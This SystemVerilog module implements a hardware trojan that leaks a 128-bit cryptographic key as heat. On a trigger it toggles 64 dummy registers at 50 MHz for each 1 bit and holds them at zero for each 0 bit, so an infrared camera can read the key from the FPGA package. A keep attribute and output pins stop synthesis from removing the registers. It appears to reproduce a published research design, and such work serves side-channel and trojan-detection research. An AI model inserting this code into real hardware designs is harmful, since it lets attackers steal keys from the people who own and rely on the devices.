// thermal_fpga_trojan: leaks the key as heat from the FPGA die itself.
//
// A bank of N_DUMMY dummy registers does no useful work. For a key bit of 1
// every register toggles on every clock edge (50 MHz switching at the
// default clock), and the switching power heats the die; for a 0 they are
// held at zero. An infrared camera sees the package warm and cool bit by bit.
// The registers carry a keep attribute and are brought out on `dummy_regs`
// so that synthesis cannot remove them; the pins may be left unconnected.
//
// Interface: `trigger` starts one pass over `key`. Timing: registered, the
// bank starts toggling one cycle after a 1 bit begins; each bit lasts
// BIT_CYCLES cycles.
//
// From the document: several dummy registers inside the FPGA, switched at
// 50 MHz for a 1 and set to zero for a 0, half a second per bit. Their
// number (64) and the alternating start pattern, which makes neighbouring
// registers switch in opposite directions, are this design's choices.
module thermal_fpga_trojan #(
  parameter int unsigned WIDTH      = 128,
  parameter int unsigned N_DUMMY    = 64,
  parameter int unsigned BIT_CYCLES = 25_000_000
) (
  input  logic               clk,
  input  logic               rst,
  input  logic               trigger,
  input  logic [WIDTH-1:0]   key,
  output logic [N_DUMMY-1:0] dummy_regs,
  output logic               active
);
  logic                     bit_val;
  logic [$clog2(WIDTH)-1:0] bit_index;

  (* keep *) logic [N_DUMMY-1:0] bank;

  trojan_key_sequencer #(.WIDTH(WIDTH), .BIT_CYCLES(BIT_CYCLES)) u_seq (
    .clk, .rst, .trigger, .key, .active, .bit_val, .bit_index
  );

  // 0101... pattern: every register flips on each clock while enabled.
  function automatic logic [N_DUMMY-1:0] alt_pattern();
    logic [N_DUMMY-1:0] p;
    for (int i = 0; i < N_DUMMY; i++) p[i] = i[0];
    return p;
  endfunction

  always_ff @(posedge clk) begin
    if (rst || !bit_val)  bank <= '0;
    else if (bank == '0)  bank <= alt_pattern();
    else                  bank <= ~bank;
  end

  assign dummy_regs = bank;

endmodule
